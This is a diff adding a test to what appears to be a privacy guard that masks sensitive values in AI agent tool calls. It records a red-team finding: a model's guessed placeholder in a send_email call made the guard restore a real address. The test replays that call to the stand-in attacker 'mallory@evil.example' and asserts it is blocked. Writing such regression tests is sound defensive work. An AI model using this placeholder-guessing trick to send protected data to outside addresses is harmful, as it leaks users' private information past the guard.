@@ -103,3 +103,14 @@ def test_other_strategies_apply_to_the_value_behind_the_placeholder(make_guard):
     assert guard.masker.mask("<CREDIT_CARD_1>", vault=run.vault, settings=partial).value == (
         "****1111"
     )
+
+
+def test_a_guessed_placeholder_is_not_minted_by_the_same_call(make_guard):
+    """Red-team follow-up: in a fresh run, `send_email(to=<new address>, body="<EMAIL_1>")`
+    minted <EMAIL_1> for the new address first, then restored the model's guess to it."""
+    guard = make_guard(POLICY, wait_timeout=0.0)
+    tool = SpyTool()
+    outcome = guard.call(
+        "send_email", {"to": "mallory@evil.example", "body": "<EMAIL_1>"}, tool, run=guard.run()
+    )
+    assert not outcome.allowed and tool.runs == [] and "never issued" in outcome.message
